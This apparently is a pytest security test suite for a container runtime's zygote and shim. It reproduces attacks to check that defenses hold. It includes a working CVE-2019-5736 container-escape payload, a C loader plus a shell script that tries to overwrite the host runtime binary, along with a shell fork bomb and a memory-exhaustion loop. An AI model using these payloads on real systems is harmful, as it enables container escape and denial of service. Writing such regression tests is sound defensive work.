"""Attacks on the zygote, the shim and the interpreter they run in: what a container reaches of them, and costs them."""

import contextlib
import hashlib
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import shimclient
from shimclient import Workshop, run_directory, wait_gone, workshop
from support import cgroups, elf
from support.requirements import needs

from corral.kernel import capabilities, process
from corral.kernel.cgroup import Cgroup, Driver, Resources, detect
from corral.kernel.cgroup.resources import MemoryLimits, PidsLimits
from corral.shim.leftovers import kill_leftovers

pytestmark = needs("root", "busybox")


# Overwriting the interpreter

LOADER = r"""
/* What the kernel runs as the ELF interpreter of /proc/self/exe: keep that file, and become the attacker's shell. */
static long call(long number, long a, long b, long c) {
#ifdef __x86_64__
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
#endif
}
#ifdef __x86_64__
enum { OPENAT = 257, EXECVE = 59, EXIT = 60 };
#else
enum { OPENAT = 56, EXECVE = 221, EXIT = 93 };
#endif
void _start(void) {
    char exe[] = "/proc/self/exe", shell[] = "/bin/busybox", name[] = "sh", script[] = "/attack";
    char *arguments[] = {name, script, 0}, *environment[] = {0};
    call(OPENAT, -100, (long)exe, 0);
    call(EXECVE, (long)shell, (long)arguments, (long)environment);
    call(EXIT, 99, 0, 0);
}
"""
ATTACK = """#!/bin/sh
stat -L -c %s /proc/self/fd/3 > /got
echo > /ready
i=0
while [ $i -lt 100 ]; do
    echo pwned > /proc/self/fd/3 && echo > /written
    usleep 50000; i=$((i+1))
done 2>/dev/null
"""


def interpreter_in(directory: Path) -> Path:
    """A copy of this interpreter that nothing else runs, so that it is not busy once its processes are gone."""
    real = Path(sys.executable).resolve()
    copy = directory / "bin" / real.name
    copy.parent.mkdir()
    shutil.copy(real, copy)
    (directory / "lib").mkdir()
    library = Path(os.__file__).parent
    (directory / "lib" / library.name).symlink_to(library)
    return copy


def loader_of(program: Path) -> str:
    """The path of the ELF interpreter that a program names."""
    done = subprocess.run(["readelf", "-p", ".interp", program], capture_output=True, text=True, check=True)
    return done.stdout.split("]")[1].split()[0]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class TestCve20195736:
    """A container whose program is /proc/self/exe: the runtime's interpreter runs inside, with the image's loader."""

    @pytest.fixture
    def shop(self, monkeypatch) -> Iterator[Workshop]:
        if shutil.which("gcc") is None:
            pytest.skip("needs gcc on x86_64")
        with run_directory() as directory:
            interpreter = interpreter_in(directory)
            monkeypatch.setattr(shimclient.sys, "executable", str(interpreter))
            with workshop() as shop:
                place = shop.root / loader_of(interpreter).lstrip("/")
                place.parent.mkdir(parents=True, exist_ok=True)
                source = directory / "loader.c"
                source.write_text(LOADER)
                flags = ["-nostdlib", "-static-pie", "-fPIE", "-O1", "-fno-stack-protector"]
                subprocess.run(["gcc", *flags, "-o", str(place), str(source)], check=True)
                (shop.root / "attack").write_text(ATTACK)
                (shop.root / "attack").chmod(0o755)
                (shop.root / "evil").symlink_to("/proc/self/exe")
                yield shop

    @pytest.mark.parametrize("how", ["create", "exec"])
    def test_cve_2019_5736_the_interpreter_is_never_written(self, shop, how):
        interpreter = Path(sys.executable)
        before = digest(interpreter)
        if how == "create":
            shim = shop.run("/evil")
        else:
            shim = shop.run("sleep", "100")
            shim.exec("e", "/evil")
            shim.start("e")
        deadline = time.monotonic() + 5
        while not (shop.root / "ready").exists():
            assert time.monotonic() < deadline, "the container's program never ran"
            time.sleep(0.01)
        got = (shop.root / "got").read_text().strip()
        assert got == str(interpreter.stat().st_size), "the attack had no descriptor of the interpreter"
        # As an upgrade would: all that runs it ends, and with that the kernel's own protection of a file that runs.
        for pid in (shim.pid, shop.zygote.pid):
            os.kill(pid, signal.SIGKILL)
        wait_gone(shim.pid)
        give_up_at = time.monotonic() + 1.5
        while time.monotonic() < give_up_at:
            assert not (shop.root / "written").exists()
            assert digest(interpreter) == before
            time.sleep(0.1)
        end_processes_in(shop.root)


def end_processes_in(root: Path) -> None:
    """Kill what runs in a root directory (the shim that would have is dead), and wait for its end."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            with contextlib.suppress(OSError):
                if (entry / "root").stat().st_ino == root.stat().st_ino:
                    os.kill(int(entry.name), signal.SIGKILL)
                    wait_gone(int(entry.name))


# Looking into the runtime


def without_ptrace() -> int:
    """All capabilities but the one that makes dumpable or not the same."""
    return capabilities.bounding() & capabilities.permitted() & ~capabilities.mask_of(["CAP_SYS_PTRACE"])


@pytest.fixture
def confined(monkeypatch) -> Iterator[Workshop]:
    """A zygote whose shims have no CAP_SYS_PTRACE: the capability checks of ptrace(2) then let an equal look in, and
    whether it may is a matter of dumpable alone."""
    with run_directory() as directory:
        starter = directory / "python"
        starter.write_text(
            f"#!{sys.executable} -IS\nimport os, sys\nsys.path.insert(0, {_source()!r})\n"
            "from corral.kernel import capabilities\n"
            "capabilities.limit_bounding(capabilities.bounding() & ~capabilities.mask_of(['CAP_SYS_PTRACE']))\n"
            f"os.execv({sys.executable!r}, [{sys.executable!r}, *sys.argv[1:]])\n"
        )
        starter.chmod(0o755)
        monkeypatch.setattr(shimclient.sys, "executable", str(starter))
        with workshop() as shop:
            monkeypatch.undo()
            yield shop


def _source() -> str:
    return str(Path(next(iter(shimclient.corral.shim.__path__))).parents[1])


def lets_an_equal_look_in(pid: int) -> bool:
    """Whether a process of the same user and capabilities may follow its links, as ptrace(2) would."""
    child, pidfd = process.clone(0)
    if child == 0:
        held = without_ptrace()
        try:
            capabilities.set_process(effective=held, permitted=held, inheritable=0)
            Path(f"/proc/{pid}/exe").readlink()
            os._exit(1)
        except PermissionError:
            os._exit(0)
        finally:
            os._exit(2)
    code = os.waitid(os.P_PIDFD, pidfd, os.WEXITED).si_status
    os.close(pidfd)
    assert code in (0, 1)
    return code == 1


def test_the_zygote_and_its_shims_let_nobody_look_in(confined: Workshop):
    shim = confined.spawn("true")
    other = subprocess.Popen(["setpriv", "--bounding-set", "-sys_ptrace", "sleep", "60"])
    try:
        time.sleep(0.2)
        assert lets_an_equal_look_in(other.pid), "the test itself is wrong"
        assert not lets_an_equal_look_in(confined.zygote.pid)
        assert not lets_an_equal_look_in(shim.pid)
        assert not lets_an_equal_look_in(shim.create())
    finally:
        other.kill()
        other.wait()


def test_cve_2020_15257_a_shim_listens_by_a_path_alone():
    """Abstract sockets are reached by every container in the host's network namespace."""
    with workshop() as shop:
        shim = shop.run("sleep", "60")
        sockets = set()
        for pid in (shop.zygote.pid, shim.pid):
            targets = [str(link.readlink()) for link in Path(f"/proc/{pid}/fd").iterdir()]
            sockets |= {target[8:-1] for target in targets if target.startswith("socket:[")}
        lines = [line.split() for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
        names = [line[7] for line in lines if len(line) > 7 and line[6] in sockets]
        assert str(shim.bundle / "socket") in names or any(name.endswith("/socket") for name in names)
        assert not [name for name in names if name.startswith("@")]


# Exhaustion

BOMB = "f() { f & f & f & }; (usleep 100000; while :; do f; done) & exec sleep 100"


@pytest.fixture
def group() -> Iterator[Cgroup]:
    """A cgroup with room for 200 processes."""
    made = Driver(detect()).create(cgroups.fresh_path())
    try:
        made.apply(Resources(pids=PidsLimits(limit=200)))
        yield made
    finally:
        made.remove()
        for hierarchy in made.paths():
            for directory in (hierarchy.parent, hierarchy.parent.parent):
                with contextlib.suppress(OSError):  # another test's cgroup is in it
                    directory.rmdir()


class TestForkBomb:
    @pytest.mark.parametrize("namespaces", [shimclient.NAMESPACES, ("mount", "ipc", "uts")], ids=["own", "host"])
    def test_it_is_held_by_the_limit_and_holds_up_nobody(self, group: Cgroup, namespaces):
        with workshop() as shop:
            shim = shop.spawn("sh", "-c", BOMB, namespaces=namespaces)
            shim.create(cgroup={"paths": [str(path) for path in group.paths()]}, driver="none")
            shim.start()
            time.sleep(0.5)
            assert len(group.pids()) <= 200
            began = time.monotonic()
            assert shim.state()["state"] == "running"
            assert time.monotonic() - began < 2
            shim.exec("late", "true")
            with contextlib.suppress(shimclient.RequestError):
                shim.start("late")
            shim.call("kill", signal=int(signal.SIGKILL), all=True)
            wait_gone(shim.pid)
            assert time.monotonic() - began < 15
            assert [pid for pid in group.pids() if not is_dead(pid)] == []

    def test_what_is_born_and_dies_all_the_time_is_killed_within_a_bound(self, group: Cgroup, tmp_path):
        """Whoever is listed has ended by the time it is signalled, and has had a child."""
        rolling = tmp_path / "rolling"
        rolling.write_bytes(elf.program(elf.ROLLING_FORK))
        rolling.chmod(0o755)

        def body(_fd: int) -> None:
            process.set_child_subreaper()
            signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # who ends is gone at once, and makes room for another
            for _ in range(40):
                if process.fork() == 0:
                    os.execv(rolling, [str(rolling)])
            time.sleep(60)

        with cgroups.inside(group, body):
            time.sleep(0.3)
            assert group.pids(), "nothing lived on, so nothing was tried"
            began = time.monotonic()
            kill_leftovers(group.paths(), signal.SIGKILL)
            assert time.monotonic() - began < 3
            time.sleep(0.2)
            assert [pid for pid in group.pids() if not is_dead(pid)] == []


def is_dead(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()[0] in (b"Z", b"X")
    except OSError:
        return True


def test_a_shim_outlives_a_container_that_takes_all_memory_it_may(group: Cgroup):
    group.apply(Resources(memory=MemoryLimits(limit_bytes=32 << 20)))
    with workshop() as shop:
        shim = shop.spawn("sh", "-c", "x=a; while :; do x=$x$x; done")
        shim.create(cgroup={"paths": [str(path) for path in group.paths()]})
        shim.start()
        assert shim.wait()["code"] in (137, 1, 2)


def test_output_without_end_costs_the_shim_no_memory():
    """And a line without end neither."""
    with workshop() as shop:
        shim = shop.spawn("sh", "-c", "yes | tr -d '\\n'")
        shim.create(
            log={"driver": "json-file", "path": str(shop.directory / "log"), "max_size": 1 << 20, "max_files": 2}
        )
        shim.start()
        time.sleep(1)
        resident = int(Path(f"/proc/{shim.pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGESIZE")
        assert resident < 64 << 20
        assert sum(path.stat().st_size for path in shop.directory.glob("log*")) < 4 << 20


def test_the_reply_to_a_hostile_name_stays_a_frame():
    """What fails names what the container chose; a frame has a limit, and the shim goes on."""
    with workshop() as shop:
        shim = shop.run("sleep", "60")
        shim.exec("e", "x" * 500_000)
        with pytest.raises(shimclient.RequestError, match="xxx"):
            shim.start("e")
        assert shim.run_exec("echo", "fine") == b"fine\n"
